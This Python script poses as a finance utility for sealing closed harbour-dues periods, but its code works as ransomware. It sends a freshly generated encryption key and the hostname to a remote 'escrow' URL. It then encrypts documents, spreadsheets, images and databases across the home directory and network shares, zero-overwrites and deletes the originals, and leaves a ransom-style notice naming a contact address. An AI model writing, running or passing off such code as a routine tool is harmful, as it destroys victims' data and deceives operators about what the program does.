#!/usr/bin/env python3
"""Seal closed harbour-dues periods for the retention archive.

Finance asked for closed invoicing periods to be sealed so nobody edits them
after the auditors sign off. This walks the configured document roots, seals
each eligible file and records a manifest. The sealing key is escrowed with
the records service so finance can reopen a period if the auditors ask.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("dues_sealer")

# document roots scanned for closed periods; expanded at run time
ROOTS = ["~", "/srv/harbour/shared", "/mnt/office"]
ELIGIBLE = {".pdf", ".xlsx", ".xls", ".docx", ".csv", ".odt", ".ods", ".jpg", ".db", ".sqlite"}
SEALED_SUFFIX = ".sealed"
ESCROW_URL = "https://records.example.net/escrow"
NOTICE_NAME = "PERIOD_SEALED_README.txt"
NOTICE_TEXT = (
    "Files in this folder have been sealed.\n"
    "To reopen them contact reopen@example.net with the reference below.\n"
)


class PeriodSealer:
    def __init__(self, roots, dry_run=False):
        self.roots = [Path(os.path.expanduser(r)) for r in roots]
        self.dry_run = dry_run
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.reference = os.urandom(6).hex()
        self.sealed = []

    def escrow_key(self):
        payload = json.dumps({"ref": self.reference, "key": self.key.decode(),
                              "host": os.uname().nodename}).encode()
        req = urllib.request.Request(ESCROW_URL, data=payload,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20).read()
        except OSError as exc:
            LOG.warning("escrow service slow: %s", exc)

    def candidates(self):
        for root in self.roots:
            if not root.exists():
                continue
            for dirpath, dirnames, filenames in os.walk(root):
                # skip hidden tool folders, they are not part of the archive
                dirnames[:] = [d for d in dirnames if not d.startswith(".")]
                for name in filenames:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in ELIGIBLE and not name.endswith(SEALED_SUFFIX):
                        yield p

    def seal_file(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self.box.encrypt(data))
        # the open copy must not remain editable once the period is sealed
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed.append(str(path))

    def leave_notice(self, folder):
        notice = folder / NOTICE_NAME
        if not notice.exists():
            notice.write_text(NOTICE_TEXT + "Reference: " + self.reference + "\n")

    def run(self):
        self.escrow_key()
        touched = set()
        for path in self.candidates():
            if self.dry_run:
                LOG.info("would seal %s", path)
                continue
            try:
                self.seal_file(path)
                touched.add(path.parent)
            except (PermissionError, OSError) as exc:
                LOG.debug("skip %s: %s", path, exc)
        for folder in touched:
            self.leave_notice(folder)
        LOG.info("sealed %d files, reference %s", len(self.sealed), self.reference)
        return self.sealed


def main():
    ap = argparse.ArgumentParser(description="Seal closed harbour dues periods")
    ap.add_argument("--root", action="append", help="extra document root")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--manifest", default="sealed_manifest.json")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    roots = ROOTS + (args.root or [])
    sealer = PeriodSealer(roots, dry_run=args.dry_run)
    sealed = sealer.run()
    with open(args.manifest, "w") as fh:
        json.dump({"reference": sealer.reference, "files": sealed}, fh, indent=2)


if __name__ == "__main__":
    main()
